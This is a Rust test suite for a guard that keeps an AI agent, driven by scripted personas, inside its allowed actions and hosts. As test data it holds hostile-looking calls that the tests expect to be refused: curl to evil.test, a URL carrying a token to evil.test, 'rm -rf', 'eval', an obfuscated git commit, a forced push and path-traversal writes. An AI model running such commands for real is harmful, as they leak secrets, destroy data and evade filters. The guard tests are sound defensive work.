//! A persona run from its first file to its last, with a stand-in for the agent: what is written, what may act when, and that
//! every way out leaves nothing armed.

#![expect(clippy::unwrap_used, reason = "helpers of tests")]

#[path = "persona_run/yard.rs"]
mod yard;

use std::process::Command;

use serde_json::{Value, json};
use yard::{Yard, call, lives, outcome, says, turn, visit};

const SHOP: &str = "https://shop.stage.test/";

fn kinds(journal: &[Value]) -> Vec<String> {
    let kind = |line: &Value| {
        if let Some(turn) = line.get("turn_id") {
            let stamp = ["bound_violation", "withheld"].into_iter().find(|stamp| line.get(stamp).is_some());
            return [turn.as_str().unwrap(), stamp.unwrap_or_default()].join(" ").trim().to_owned();
        }
        for (record, field) in [("journey_stop", "reason"), ("journey_outcome", "outcome"), ("journey_event", "kind")] {
            if let Some(inner) = line.get(record) {
                return format!("{record} {}", inner[field].as_str().unwrap());
            }
        }
        String::from("header")
    };
    journal.iter().map(kind).collect()
}

#[test]
fn three_turns_and_an_outcome() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            turn("ana", 1, "open the shop", &[SHOP]),
            "rests".into(),
            visit(SHOP),
            turn("ana", 2, "scroll down", &[]),
            "rests".into(),
            turn("ana", 3, "open the first shirt", &[]),
            "rests".into(),
            outcome("succeeded"),
            "ends".into(),
        ],
    );
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let journal = yard.journal("ana");
    assert_eq!(kinds(&journal), ["header", "turn-1", "turn-2", "turn-3", "journey_outcome succeeded"]);
    let header = serde_json::to_string(&journal[0]).unwrap();
    assert!(header.contains("\"app_version\":\"v7\"") && header.contains("\"flow\":\"checkout\""), "{header}");
    assert_eq!(yard.read("calls"), format!("ana ran mcp__browser__navigate {{\"url\":\"{SHOP}\"}}\n"));
    let heard = yard.read("ana.heard");
    assert_eq!(heard.matches("ACT turn-").count(), 3, "{heard}");
    let run = yard.only_run();
    for file in ["REPORT.md", "REPORT.html", "ana/FINDINGS.md"] {
        assert!(run.join(file).is_file(), "{file}");
    }
    let events: Vec<Value> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON object a line"))
        .collect();
    assert_eq!(events.iter().filter(|event| event["event"] == "persona_turn").count(), 3);
    assert_eq!(events.first().unwrap()["event"], "persona_run_start");
    assert_eq!(events.last().unwrap()["event"], "persona_run_report");
    yard.is_clean();
}

#[test]
fn nothing_acts_before_its_go_ahead_and_looking_is_free() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            call("mcp__browser__snapshot", &json!({})),
            visit(SHOP),
            call("Bash", &json!({ "command": "touch x" })),
            turn("ana", 1, "open the shop", &[SHOP]),
            visit(SHOP),
            "rests".into(),
            visit(SHOP),
            outcome("succeeded"),
            "ends".into(),
        ],
    );
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let calls = yard.read("calls");
    let ran: Vec<&str> = calls.lines().map(|line| line.split(' ').take(3).last().unwrap()).collect();
    assert_eq!(
        ran,
        [
            "mcp__browser__snapshot",
            "mcp__browser__navigate",
            "Bash",
            "mcp__browser__navigate",
            "mcp__browser__navigate"
        ]
    );
    let verdicts: Vec<&str> = calls.lines().map(|line| line.split(' ').nth(1).unwrap()).collect();
    assert_eq!(verdicts, ["ran", "refused", "refused", "refused", "ran"], "{calls}");
    let early = kinds(&yard.journal("ana")).iter().filter(|kind| *kind == "journey_event early-action").count();
    assert_eq!(early, 3);
    yard.is_clean();
}

#[test]
fn bounds_end_one_journey_and_the_others_go_on() {
    let yard = Yard::new(&["ana", "bo", "cy"]);
    yard.script("ana", 1, &[turn("ana", 1, "look around", &["https://evil.test/?token=abc123"]), "rests".into()]);
    yard.script("bo", 1, &[turn("bo", 1, "click the Pay now button", &[]), "rests".into()]);
    yard.script("cy", 1, &[turn("cy", 1, "scroll", &[]), "rests".into(), outcome("abandoned"), "ends".into()]);
    let output = yard.run(&["--parallel", "2"]);
    assert_eq!(output.status.code(), Some(20), "{output:?}");
    assert_eq!(kinds(&yard.journal("ana")), ["header", "turn-1 bound_violation", "journey_stop allowlist"]);
    assert_eq!(kinds(&yard.journal("bo")), ["header", "turn-1 bound_violation", "journey_stop irreversible"]);
    assert_eq!(kinds(&yard.journal("cy")), ["header", "turn-1", "journey_outcome abandoned"]);
    for persona in ["ana", "bo"] {
        assert!(!yard.read(&format!("{persona}.heard")).contains("ACT turn-1:"), "{persona} got a go-ahead");
    }
    let report = std::fs::read_to_string(yard.only_run().join("REPORT.md")).unwrap();
    assert!(report.contains("[major] bound at step \"step 1\"\n\n- personas hit: 2 (ana, bo)"), "{report}");
    // no path or query of an address in any file that the run wrote
    let all = Command::new("grep").args(["-rl", "token", "--"]).arg(yard.project()).arg(yard.state()).output().unwrap();
    assert_eq!(String::from_utf8(all.stdout).unwrap(), "");
    yard.is_clean();
}

#[test]
fn what_is_tried_outside_is_refused_and_found() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            turn("ana", 1, "open the shop", &[SHOP]),
            "rests".into(),
            visit("https://evil.test/x"),
            call("mcp__browser__click", &json!({ "element": "Pay now", "ref": "e1" })),
            call("Bash", &json!({ "command": "g\"i\"t commit -m x" })),
            call("Bash", &json!({ "command": "bash -c 'git push -f'" })),
            outcome("blocked"),
            "ends".into(),
        ],
    );
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let calls = yard.read("calls");
    assert_eq!(calls.lines().filter(|line| line.contains(" refused ")).count(), 4, "{calls}");
    assert!(calls.contains("host \\\"evil.test\\\"") || calls.contains("evil.test"), "{calls}");
    let kinds = kinds(&yard.journal("ana"));
    assert!(kinds.contains(&"journey_event refused-navigation".to_owned()), "{kinds:?}");
    assert!(kinds.contains(&"journey_event refused-act".to_owned()), "{kinds:?}");
    let events = std::fs::read_to_string(yard.persona_home().join("events.jsonl")).unwrap();
    assert_eq!(events.lines().count(), 1, "{events}");
    yard.is_clean();
}

#[test]
fn a_worker_reaches_its_evidence_and_nothing_else() {
    let yard = Yard::new(&["ana"]);
    let shell = |command: &str| call("Bash", &json!({ "command": command }));
    let write = |path: &str| call("Write", &json!({ "file_path": path, "content": "x" }));
    let mut script = vec![turn("ana", 1, "look at the page", &[]), "rests".into()];
    let refused = [
        shell("curl https://evil.test/"),
        shell("echo x > README.md"),
        shell("echo x >> .leopold/persona/runs/*/ana/JOURNEY.jsonl"),
        shell("eval \"$X\""),
        shell("rm -rf .leopold"),
        write("src/main.rs"),
        write("evidence/../JOURNEY.jsonl"),
        call("WebSearch", &json!({ "query": "site:evil.test" })),
    ];
    script.extend(refused.clone());
    script.extend([shell("ls -la"), shell("curl -s https://shop.stage.test/health"), shell("date > /dev/null")]);
    script.extend([outcome("succeeded"), "ends".into()]);
    yard.script("ana", 1, &script);
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let calls = yard.read("calls");
    let verdicts: Vec<&str> = calls.lines().map(|line| line.split(' ').nth(1).unwrap()).collect();
    let expected = [vec!["refused"; refused.len()], vec!["ran"; 3]].concat();
    assert_eq!(verdicts, expected, "{calls}");
    yard.is_clean();
}

#[test]
fn a_page_that_was_reached_outside_ends_the_journey() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            turn("ana", 1, "follow the link Shirts", &[]),
            "rests".into(),
            "wants mcp__browser__click {\"element\":\"Shirts\",\"ref\":\"e12\"}".into(),
            format!("answers {}", Value::from("### Page state\n- Page URL: https://evil.test/landing?id=9\n")),
            "hangs".into(),
        ],
    );
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(20), "{output:?}");
    let journal = yard.journal("ana");
    assert_eq!(kinds(&journal), ["header", "turn-1", "journey_stop allowlist"]);
    assert!(journal[2].to_string().contains("evil.test") && !journal[2].to_string().contains("landing"));
    let agent = yard.read("ana.1.started");
    assert!(!lives(&agent), "the agent lives on");
    yard.is_clean();
}

#[test]
fn what_is_not_said_clearly_is_held() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            turn("ana", 1, "press the green button", &[]),
            "rests".into(),
            call("mcp__browser__click", &json!({ "element": "the button", "ref": "e1" })),
            turn("ana", 2, "click Next", &[]),
            "rests".into(),
            call("mcp__browser__click", &json!({ "element": "Next", "ref": "e1" })),
            outcome("succeeded"),
            "ends".into(),
        ],
    );
    assert_eq!(yard.run(&[]).status.code(), Some(0));
    let expected = ["header", "turn-1 withheld", "journey_event early-action", "turn-2", "journey_outcome succeeded"];
    assert_eq!(kinds(&yard.journal("ana")), expected);
    assert!(yard.read("ana.heard").contains("HOLD turn-1"));
    yard.is_clean();
}

#[test]
fn a_wrong_block_is_asked_for_once_more_and_then_it_is_over() {
    let yard = Yard::new(&["ana", "bo"]);
    let wrong = says("```persona-turn\n{\"turn_id\": 1}\n```\n");
    yard.script("ana", 1, &[wrong.clone(), "rests".into(), wrong, "rests".into()]);
    yard.script(
        "bo",
        1,
        &[
            turn("bo", 2, "skip ahead", &[]),
            "rests".into(),
            turn("bo", 1, "begin", &[]),
            "rests".into(),
            turn("bo", 1, "again", &[]),
            "rests".into(),
            outcome("succeeded"),
            "ends".into(),
        ],
    );
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(21), "{output:?}");
    assert_eq!(kinds(&yard.journal("ana")), ["header", "journey_event retry", "journey_stop stall"]);
    let expected = ["header", "journey_event retry", "turn-1", "journey_event retry", "journey_outcome succeeded"];
    assert_eq!(kinds(&yard.journal("bo")), expected);
    assert!(yard.read("bo.heard").contains("the next one is `turn-1`"));
    yard.is_clean();
}

#[test]
fn a_dead_agent_is_replaced_and_no_turn_is_lost_or_repeated() {
    let yard = Yard::new(&["ana", "bo"]);
    yard.script(
        "ana",
        1,
        &[turn("ana", 1, "begin", &[]), "rests".into(), turn("ana", 2, "go on", &[]), "rests".into(), "dies".into()],
    );
    yard.script("ana", 2, &[turn("ana", 3, "go on", &[]), "rests".into(), outcome("succeeded"), "ends".into()]);
    yard.script("bo", 1, &["dies".into()]);
    yard.script("bo", 2, &["dies".into()]);
    let output = yard.run(&["--parallel", "2"]);
    assert_eq!(output.status.code(), Some(21), "{output:?}");
    let expected = ["header", "turn-1", "turn-2", "journey_event relaunch", "turn-3", "journey_outcome succeeded"];
    assert_eq!(kinds(&yard.journal("ana")), expected);
    let heard = yard.read("ana.heard");
    let second = heard.lines().find(|line| line.contains("This is a continuation")).expect("a second start");
    assert!(second.contains("TURN_ID: turn-3") && second.contains("PRIOR_STATE: {"), "{second}");
    assert_eq!(kinds(&yard.journal("bo")), ["header", "journey_event relaunch", "journey_stop stall"]);
    yard.is_clean();
}

#[test]
fn a_hanging_agent_is_ended_with_all_that_it_started() {
    let yard = Yard::new(&["ana"]);
    yard.script("ana", 1, &["hangs".into()]);
    yard.script("ana", 2, &["hangs".into()]);
    let output = yard.run(&["--turn-timeout", "1"]);
    assert_eq!(output.status.code(), Some(21), "{output:?}");
    assert_eq!(kinds(&yard.journal("ana")), ["header", "journey_event relaunch", "journey_stop stall"]);
    for start in ["ana.1.started", "ana.2.started"] {
        assert!(!lives(&yard.read(start)));
    }
    yard.is_clean();
}

#[test]
fn a_signal_ends_the_run_and_it_can_be_resumed() {
    for (signal, name) in [("INT", "SIGINT"), ("TERM", "SIGTERM")] {
        let yard = Yard::new(&["ana"]);
        yard.script("ana", 1, &[turn("ana", 1, "begin", &[]), "rests".into(), "marks there".into(), "hangs".into()]);
        yard.script("ana", 2, &[turn("ana", 2, "go on", &[]), "rests".into(), outcome("succeeded"), "ends".into()]);
        let child = yard.start(&[]);
        yard.awaits("there");
        Command::new("kill").args([&format!("-{signal}"), &child.id().to_string()]).status().unwrap();
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(23), "{output:?}");
        let journal = yard.journal("ana");
        assert_eq!(kinds(&journal), ["header", "turn-1", "journey_stop interrupted"]);
        assert!(journal[2].to_string().contains(name));
        assert!(!lives(&yard.read("ana.1.started")));
        yard.is_clean();
        let run = yard.only_run();
        let resumed = yard.command(&["persona", "resume", run.to_str().unwrap()]).output().unwrap();
        assert_eq!(resumed.status.code(), Some(0), "{resumed:?}");
        let expected = [
            "header",
            "turn-1",
            "journey_stop interrupted",
            "journey_event resumed",
            "turn-2",
            "journey_outcome succeeded",
        ];
        assert_eq!(kinds(&yard.journal("ana")), expected);
        yard.is_clean();
    }
}

/// The conductor is killed where nothing can be put back: what is left binds nobody else, holds its own worker, is named by
/// doctor, and is taken up by a resume. Before the first turn, between a turn and its go-ahead, after the go-ahead.
#[test]
fn what_a_killed_conductor_leaves_is_inert_and_resumed() {
    let begin = || turn("ana", 1, "open the shop", &[SHOP]);
    let late = || [String::from("marks there"), String::from("waits dead"), visit(SHOP), String::from("marks asked")];
    let before = [late().to_vec()].concat();
    let between = [vec![begin()], late().to_vec()].concat();
    let after = [vec![begin(), "rests".into()], late().to_vec()].concat();
    for (steps, turns) in [(before, 0), (between, 1), (after, 1)] {
        let yard = Yard::new(&["ana"]);
        yard.script("ana", 1, &steps);
        yard.script(
            "ana",
            2,
            &[turn("ana", turns + 1, "go on", &[]), "rests".into(), outcome("succeeded"), "ends".into()],
        );
        let mut child = yard.start(&[]);
        yard.awaits("there");
        yard.has_turns("ana", turns);
        child.kill().unwrap();
        child.wait().unwrap();
        std::fs::write(yard.fake().join("dead"), "").unwrap();
        yard.awaits("asked");
        let calls = yard.read("calls");
        assert!(calls.starts_with("ana refused mcp__browser__navigate") && calls.lines().count() == 1, "{calls}");
        assert!(yard.persona_home().join("ACTIVE.json").exists());
        assert_eq!(guard(&yard, false), "", "ordinary work is bound");
        assert!(guard(&yard, true).contains("no conductor knows this worker"), "a worker is free");
        let doctor = yard.command(&["doctor"]).output().unwrap();
        let text = String::from_utf8(doctor.stdout).unwrap();
        assert!(text.contains("the conductor of") && text.contains("is gone"), "{text}");
        let run = yard.only_run();
        let resumed = yard.command(&["persona", "resume", run.to_str().unwrap()]).output().unwrap();
        assert_eq!(resumed.status.code(), Some(0), "{resumed:?}");
        let mut expected = vec!["header"];
        expected.extend((turns == 1).then_some("turn-1"));
        expected.push("journey_event resumed");
        expected.push(if turns == 1 { "turn-2" } else { "turn-1" });
        expected.push("journey_outcome succeeded");
        assert_eq!(kinds(&yard.journal("ana")), expected);
        yard.is_clean();
    }
}

/// What the guard says to a fetch of a session that is not in any lease, perhaps with the mark of a worker.
fn guard(yard: &Yard, marked: bool) -> String {
    let payload = json!({
        "session_id": "somebody", "cwd": yard.project(), "hook_event_name": "PreToolUse", "tool_use_id": "t1",
        "tool_name": "Bash", "tool_input": { "command": "curl https://docs.example/" },
    });
    let mut hook = yard.command(&["hook", "persona", "--agent", "claude-code"]);
    if marked {
        hook.env("LEASTGRANT_PERSONA_WORKER", "1");
    }
    let mut hook = hook.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(&mut hook.stdin.take().unwrap(), payload.to_string().as_bytes()).unwrap();
    let said = hook.wait_with_output().unwrap();
    assert_eq!(said.status.code(), Some(0));
    String::from_utf8(said.stdout).unwrap()
}

/// A worker that outlives its run, and everything that was armed, still may not act.
#[test]
fn a_worker_without_a_run_looks_and_does_not_act() {
    let yard = Yard::new(&["ana"]);
    assert!(guard(&yard, true).contains("deny"));
    assert_eq!(guard(&yard, false), "");
}

#[test]
fn two_runs_do_not_get_in_each_others_way() {
    let yard = Yard::new(&["ana"]);
    yard.script(
        "ana",
        1,
        &[
            turn("ana", 1, "open the shop", &[SHOP]),
            "rests".into(),
            "marks there".into(),
            "waits go".into(),
            visit(SHOP),
            outcome("succeeded"),
            "ends".into(),
        ],
    );
    let first = yard.start(&[]);
    yard.awaits("there");
    let run = yard.only_run();
    let second = yard.run(&[]);
    assert_eq!(second.status.code(), Some(22), "{second:?}");
    assert!(String::from_utf8_lossy(&second.stderr).contains("is being conducted in this project by process"));
    let again = yard.command(&["persona", "resume", run.to_str().unwrap()]).output().unwrap();
    assert_eq!(again.status.code(), Some(22), "{again:?}");
    assert_eq!(yard.only_run(), run, "a run that did not begin leaves a folder");
    std::fs::write(yard.fake().join("go"), "").unwrap();
    let output = first.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(yard.read("calls").starts_with("ana ran mcp__browser__navigate"), "{}", yard.read("calls"));
    yard.is_clean();
}

#[test]
fn the_budget_ends_a_journey() {
    let yard = Yard::new(&["ana"]);
    let mut script = Vec::new();
    for number in 1..=3 {
        script.extend([turn("ana", number, "scroll", &[]), "rests".into()]);
    }
    yard.script("ana", 1, &script);
    assert_eq!(yard.run(&["--max-turns", "2"]).status.code(), Some(20));
    assert_eq!(kinds(&yard.journal("ana")), ["header", "turn-1", "turn-2", "journey_stop budget"]);
    assert!(yard.read("ana.heard").contains("last turn"));
    yard.is_clean();
}

#[test]
fn what_can_not_be_started_says_so() {
    let yard = Yard::new(&["ana"]);
    yard.contract("bo", "draft");
    yard.script("ana", 1, &[outcome("blocked"), "ends".into()]);
    let code = |args: &[&str]| yard.command(args).output().unwrap().status.code();
    assert_eq!(code(&["persona", "run", "nowhere"]), Some(22));
    assert_eq!(code(&["persona", "run", "../x"]), Some(2));
    assert_eq!(code(&["persona", "run", "checkout", "--persona", "../x"]), Some(2));
    assert_eq!(code(&["persona", "run", "checkout", "--persona", "bo", "--agent-bin", "/bin/true"]), Some(22));
    assert_eq!(code(&["persona", "run", "checkout", "--parallel", "0"]), Some(2));
    assert_eq!(code(&["persona", "resume", "."]), Some(22));
    assert!(!yard.persona_home().join("runs").exists(), "a run that did not start leaves a folder");
    let output = yard.run(&[]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(!yard.only_run().join("bo").exists(), "a draft walks");
    yard.is_clean();
}

#[test]
fn an_agent_starts_no_run() {
    let yard = Yard::new(&["ana"]);
    let output = yard.command(&["persona", "run", "checkout"]).env("CLAUDECODE", "1").output().unwrap();
    assert_eq!(output.status.code(), Some(22), "{output:?}");
}
